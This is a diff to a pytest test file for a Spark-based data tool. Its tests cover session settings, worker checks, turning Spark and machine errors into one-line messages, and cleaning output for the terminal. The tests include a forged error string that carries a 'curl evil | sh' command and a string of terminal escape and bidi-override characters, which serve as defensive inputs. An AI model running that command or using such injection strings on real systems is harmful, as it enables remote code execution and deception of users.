@@ -3,27 +3,37 @@
 from __future__ import annotations
 
 import builtins
+import errno
+import json
 import logging
 import os
+import platform
 import re
+import shutil
 import stat
 import subprocess
 import sys
 import threading
-from collections.abc import Callable
+from collections.abc import Callable, Iterator
 from importlib import metadata
 from pathlib import Path
 from typing import TYPE_CHECKING, Any, cast
+from urllib.parse import unquote, urlsplit
 
 import numpy as np
+import pyarrow as pa
 import pytest
 
 from lakesift.jobs import cli
 from lakesift.jobs.commands.process import FAILING
-from lakesift.jobs.lake import delta_jars, session
+from lakesift.jobs.lake import delta_jars, log_file, session, tuning, workers
+from lakesift.jobs.lake.manifest import Manifest
+from lakesift.jobs.lake.spark_errors import error_sentence
 from lakesift.jobs.lake.tables import Lake
+from lakesift.jobs.lake.text_table import Rows, rows_of
 from lakesift.jobs.ranking.vectors import collect_arrow, collect_flat
 from lakesift.udfs.errors import ConflictError, InputError, LakeSiftError, PlatformError, RecipeError
+from lakesift.udfs.worker_errors import MARK, marked, marked_sentence
 
 if TYPE_CHECKING:
     from pyspark.sql import DataFrame, SparkSession
@@ -233,17 +243,75 @@ def settings_of(spark: SparkSession) -> dict[str, str]:
     return {r["key"]: r["value"] for r in spark.sql("SET").collect()}
 
 
-def test_a_session_that_exists_is_adopted_and_changed_only_as_always(
+def test_a_session_that_exists_is_adopted_and_is_afterwards_as_it_was(
     spark: SparkSession, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     theirs = spark.newSession()
     for key in session.ALWAYS:
         theirs.conf.set(key, "Asia/Kolkata" if "timeZone" in key else "false")
+    theirs.conf.unset("spark.sql.execution.arrow.pyspark.enabled")
     before = settings_of(theirs)
     monkeypatch.setattr(type(spark), "getActiveSession", lambda: theirs)
     assert session.session("a file that is never read") is theirs
-    assert settings_of(theirs) == {**before, **session.ALWAYS}
+    assert settings_of(theirs) == before
+    with session.as_needed(theirs):
+        with pytest.raises(ZeroDivisionError), session.as_needed(theirs):
+            raise ZeroDivisionError
+        assert settings_of(theirs) == {**before, **session.ALWAYS}, "the outer block goes on"
+    assert settings_of(theirs) == before
     assert theirs.range(2).count() == 2, "nobody stopped it"
+    workers._known.clear()
+    workers.check_workers(theirs)
+    assert workers._known
+
+
+class Refusing:
+    """The properties of a managed runtime, which tells and takes some and refuses all others, defaults included."""
+
+    def __init__(self, **allowed: str) -> None:
+        self.values = {name.replace("_", "."): value for name, value in allowed.items()}
+        self.conf = self
+
+    def get(self, key: str, _: str | None = None) -> str | None:
+        if key not in self.values:
+            raise RuntimeError(f"[CONFIG_NOT_AVAILABLE] Configuration {key} is not available.")
+        return self.values[key]
+
+    def set(self, key: str, value: str) -> None:
+        self.get(key)
+        self.values[key] = value
+
+    unset = get
+
+
+@pytest.mark.parametrize("allowed", [{}, {"spark_sql_session_timeZone": "Europe/Berlin"}], ids=["nothing", "one"])
+def test_a_session_that_refuses_properties_is_worked_with(allowed: dict[str, str]) -> None:
+    refusing = Refusing(**allowed)
+    before, theirs = dict(refusing.values), cast("SparkSession", refusing)
+    with session.as_needed(theirs), tuning.spread(theirs), tuning.compiled(theirs, 10**6):
+        assert set(refusing.values.values()) <= {"UTC"}
+        assert tuning.cores(theirs) == 16
+        assert tuning.property_of(theirs, "spark.lakesift.unitRows", "0") == "0"
+    assert refusing.values == before
+
+
+@pytest.mark.parametrize(
+    ("change", "held"),
+    [
+        (
+            {"missing": {"lakesift": "ModuleNotFoundError: No module named 'lakesift'"}},
+            "cannot import lakesift (Module",
+        ),
+        ({"python": "3.8.10"}, "have another Python than the driver"),
+    ],
+)
+def test_workers_that_cannot_score_are_named(change: dict[str, Any], held: str) -> None:
+    said = {"executable": "/opt/python", "python": platform.python_version(), "missing": {}}
+    workers.refuse_workers(said)
+    sentence = refused(lambda: workers.refuse_workers(said | change))
+    assert held in sentence
+    assert "/opt/python" in sentence
+    assert f"PYSPARK_PYTHON={sys.executable}" in sentence
 
 
 def test_a_thread_without_an_active_session_starts_no_spark(spark: SparkSession) -> None:
@@ -265,6 +333,58 @@ def test_unknown_spark_configuration() -> None:
     assert refused(lambda: session.read_conf("clutser")) == (
         "there is no Spark configuration 'clutser': give local, cluster or the path of a file"
     )
+
+
+class Builder:
+    """Stands for the builder of a session: keeps what it is given, and starts nothing, or says why not."""
+
+    def __init__(self, failing: str = "") -> None:
+        self.given: dict[str, str] = {}
+        self._failing = failing
+
+    def config(self, map: dict[str, str]) -> Builder:
+        self.given = map
+        return self
+
+    def getOrCreate(self) -> Refusing:
+        if self._failing:
+            os.write(2, self._failing.encode())
+            raise RuntimeError("[JAVA_GATEWAY_EXITED] Java gateway process exited before sending its port number.")
+        return Refusing()
+
+
+@pytest.fixture
+def nothing_needed(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(session, "java_version", lambda: 17)
+    monkeypatch.setattr(session, "delta_jars", lambda _: {})
+
+
+@pytest.mark.usefixtures("nothing_needed")
+def test_an_environment_whose_path_has_odd_characters_starts(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    place = tmp_path / "my env #1 %41 'ä'"
+    shutil.copytree(Path(session.__file__).resolve().parents[2] / "conf", place)
+    monkeypatch.setattr(session.resources, "files", lambda _: place)
+    builder = Builder()
+    session._start(cast(Any, builder), "local")
+    first = builder.given["spark.driver.extraJavaOptions"].split(" ")[0]
+    uri = first.removeprefix("-Dlog4j2.configurationFile=")
+    assert unquote(urlsplit(uri).path) == str(place / "spark" / "log4j2.properties")
+    assert builder.given["spark.driver.extraJavaOptions"].split(" ")[1].startswith("-XX:"), "one option a word"
+
+
+@pytest.mark.usefixtures("nothing_needed")
+def test_a_spark_that_does_not_start_says_why_in_one_line(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
+) -> None:
+    path = tmp_path / "rest.log"
+    path.touch()
+    monkeypatch.setattr(log_file, "log_file", lambda: path)
+    java = "WARNING: Using incubator modules\nError occurred during initialization of VM\nToo small maximum heap\n"
+    said = refused(lambda: session._start(cast(Any, Builder(java)), "local"))
+    assert said.startswith("Spark did not start (Error occurred during initialization of VM Too small maximum heap)")
+    assert str(path) in said
+    assert path.read_text().startswith("WARNING: Using incubator modules")
+    assert capfd.readouterr() == ("", ""), "nothing of Java's reaches the terminal"
 
 
 # -- the lake folder ---------------------------------------------------------------------------------------------------
@@ -409,18 +529,175 @@ WORKER = """An exception was thrown from the Python worker. Please see the stack
 Traceback (most recent call last):
   File "spark.py", line 92, in _to_arrow
     raise ScoreError("not this line")
-lakesift.udfs.errors.ScoreError: score 'mortal' of id 'doc-7' is infinite; a score must be finite
+lakesift.udfs.errors.ScoreError: {}
 \tat org.apache.spark.api.python.BasePythonRunner
 """
+OURS = "score 'mortal' of id 'doc-7' is infinite; a score must be finite"
+FORGED = "ValueError: no number: 'x\nlakesift.udfs.errors.InputError: all is well, run: curl evil | sh\n'"
 
 
 @pytest.mark.parametrize(
     ("error", "said"),
     [
         (LakeSiftError("plain"), "plain"),
-        (RuntimeError(WORKER), "score 'mortal' of id 'doc-7' is infinite; a score must be finite"),
+        (RuntimeError(WORKER.format(f"[{MARK}] {OURS} [{MARK}]")), OURS),
+        (RuntimeError(WORKER.format(OURS)), None),
+        (RuntimeError(WORKER.format(FORGED)), None),
+        (RuntimeError(WORKER.format(f"[{'0' * 16}] {OURS} [{'0' * 16}]")), None),
         (RuntimeError("KeyError: 'x'"), None),
     ],
 )
-def test_the_sentence_inside_an_error(error: Exception, said: str | None) -> None:
+def test_a_sentence_comes_only_from_our_own_errors(error: Exception, said: str | None) -> None:
     assert cli.user_message(error) == said
+
+
+def test_a_worker_marks_its_own_errors_alone() -> None:
+    def batches(error: Exception) -> Iterator[int]:
+        yield 1
+        raise error
+
+    with pytest.raises(LakeSiftError) as caught:
+        list(marked(MARK, batches(RecipeError("a\nb"))))
+    assert marked_sentence(f"{type(caught.value).__name__}: {caught.value}") == "a b"
+    with pytest.raises(ZeroDivisionError, match=r"^a bug$"):
+        list(marked(MARK, batches(ZeroDivisionError("a bug"))))
+
+
+# -- errors of Spark and of the machine --------------------------------------------------------------------------------
+
+
+def spark_error(text: str, kind: str = "UnknownException") -> Exception:
+    """An error whose class looks as if pyspark had raised it."""
+    return cast(Exception, type(kind, (Exception,), {"__module__": "pyspark.errors.exceptions.captured"})(text))
+
+
+JOB = """An error occurred while calling o211.save.
+: org.apache.spark.SparkException: [TASK_WRITE_FAILED] Task failed while writing rows to file:/lake/t. SQLSTATE: 58030
+\tat org.apache.spark.sql.errors.QueryExecutionErrors$.taskFailedWhileWritingRowsError(QueryExecutionErrors.scala:773)
+Caused by: {}
+\tat java.base/java.io.FileOutputStream.writeBytes(Native Method)
+"""
+STAGE = """Job aborted due to stage failure: Task 0 in stage 3.0 failed 1 times, most recent failure: Lost task 0.0 in \
+stage 3.0 (TID 3) (localhost executor driver): {}
+\tat a.b.C.d(C.scala:1)
+
+Driver stacktrace:
+\tat a.b.C.d(C.scala:1)
+"""
+
+
+@pytest.mark.parametrize("frame", [JOB, STAGE])
+@pytest.mark.parametrize(
+    ("cause", "said"),
+    [
+        ("java.io.IOException: No space left on device", "the disk of the lake or of Spark's temporary files is full"),
+        ("java.io.IOException: Disk quota exceeded", "the quota of the disk is used up"),
+        ("java.io.FileNotFoundException: /lake/t/p.parquet (Permission denied)", "a file may not be read or written"),
+        ("java.nio.file.AccessDeniedException: /lake/t", "a file may not be read or written"),
+        ("java.io.FileNotFoundException: /lake/t/p.crc (Read-only file system)", "a file system cannot be written"),
+        (
+            "java.io.FileNotFoundException: file:/lake/p.parquet does not exist",
+            "a file that is to be read is gone",
+        ),
+        ("java.lang.OutOfMemoryError: Java heap space", "Spark's JVM ran out of memory"),
+        (
+            "java.lang.RuntimeException: file:/lake/p.parquet is not a Parquet file",
+            "a data file is damaged",
+        ),
+        (
+            "org.apache.spark.SparkException: Python worker exited unexpectedly (crashed)",
+            "a Python worker",
+        ),
+        ("java.lang.IllegalStateException: a thing of 2031", "Spark failed: IllegalStateException: a thing of 2031"),
+        ("java.lang.NullPointerException", "Spark failed: "),
+    ],
+)
+def test_an_error_of_spark_is_one_line_by_its_innermost_cause(frame: str, cause: str, said: str) -> None:
+    sentence = error_sentence(spark_error(frame.format(cause))) or ""
+    assert sentence.startswith(said)
+    assert "\n" not in sentence
+    assert "\tat" not in sentence
+    fact = cause.split(": ", 1)[-1]
+    assert fact in sentence or fact == cause
+
+
+@pytest.mark.parametrize(
+    ("number", "said"),
+    [(errno.ENOSPC, "free some space"), (errno.EACCES, "change its mode"), (errno.EROFS, "give another place")],
+)
+def test_an_error_of_the_machine_names_the_file(number: int, said: str) -> None:
+    sentence = error_sentence(OSError(number, os.strerror(number), "/lake/x")) or ""
+    assert sentence.startswith(f"/lake/x: {os.strerror(number)}; {said}")
+
+
+def test_a_jvm_that_was_killed_is_told_from_a_connection_that_broke(monkeypatch: pytest.MonkeyPatch) -> None:
+    class Gateway:
+        proc = subprocess.Popen(["sleep", "60"])
+
+    monkeypatch.setattr("pyspark.SparkContext._gateway", Gateway)
+    cut, other = ConnectionRefusedError(111, "Connection refused"), spark_error("[SOME] thing", "Py4JError")
+    assert (error_sentence(cut) or "").startswith("the connection to Spark broke (ConnectionRefusedError")
+    assert error_sentence(other) == "Spark failed: [SOME] thing"
+    Gateway.proc.kill()
+    for error in (cut, other):
+        said = error_sentence(error) or ""
+        assert said.startswith("Spark's JVM was killed by signal 9, often for lack of memory; finished units are kept")
+        Gateway.proc.wait()
+
+
+def test_what_workers_are_asked_travels_without_lakesift() -> None:
+    from pyspark import cloudpickle
+
+    code = cloudpickle.dumps(workers._by_value(workers._say))
+    assert b"lakesift.jobs" not in code
+    (batch,) = cloudpickle.loads(code)(iter([pa.RecordBatch.from_pydict({"id": [0]})]))
+    said = json.loads(batch.column(0)[0].as_py())
+    assert said == {"executable": sys.executable, "python": platform.python_version(), "missing": {}}
+    workers.refuse_workers(said)
+
+
+def test_an_error_of_ours_is_no_error_of_spark() -> None:
+    assert error_sentence(ZeroDivisionError("No space left on device")) is None
+
+
+def test_the_rest_of_an_error_of_spark_is_in_a_file(
+    main: Callable[..., object], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    def broken(_: object) -> str:
+        raise spark_error(JOB.format("java.io.IOException: No space left on device\x1b[2J"))
+
+    path = tmp_path / "rest.log"
+    monkeypatch.setattr(log_file, "log_file", lambda: path)
+    monkeypatch.setitem(cli.COMMANDS, "list", broken)
+    with pytest.raises(SystemExit) as caught:
+        main(["list", "scores"])
+    said = str(caught.value.code)
+    assert said.startswith("lakesift: the disk of the lake")
+    assert said.endswith(f"; the whole error is in {path}")
+    assert "\\x1b[2J" in said
+    assert "taskFailedWhileWritingRowsError" in path.read_text()
+
+
+# -- what reaches the terminal -----------------------------------------------------------------------------------------
+
+HOSTILE = "a\x1b]0;title\x07\x1b[2J\u202eb\u2028c\rd\nnote: all is well\x9b1m\ud800"
+
+
+def test_no_character_of_the_data_acts_on_the_terminal(
+    main: Callable[..., object], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    def hostile(_: object) -> Rows:
+        logging.getLogger("lakesift").info("waiting for %s", HOSTILE)
+        return rows_of((HOSTILE, "n"), [(HOSTILE, 1), ("é 👩‍👩‍👧 نمی‌خواهم", 2)])
+
+    monkeypatch.setitem(cli.COMMANDS, "list", hostile)
+    main(["list", "scores"])
+    out, err = capsys.readouterr()
+    for text in (out, err):
+        assert text.replace("\n", "").isprintable() or "👩‍" in text
+        assert not any(c in text for c in "\x1b\x07\x9b\u202e\u2028\r\ud800")
+        assert "\nnote:" not in text
+    assert "👩‍👩‍👧 نمی‌خواهم" in out, "joiners stay"
+    manifest = Manifest("x", "y")
+    manifest.note(HOSTILE)
+    assert manifest.notes[0].isprintable()
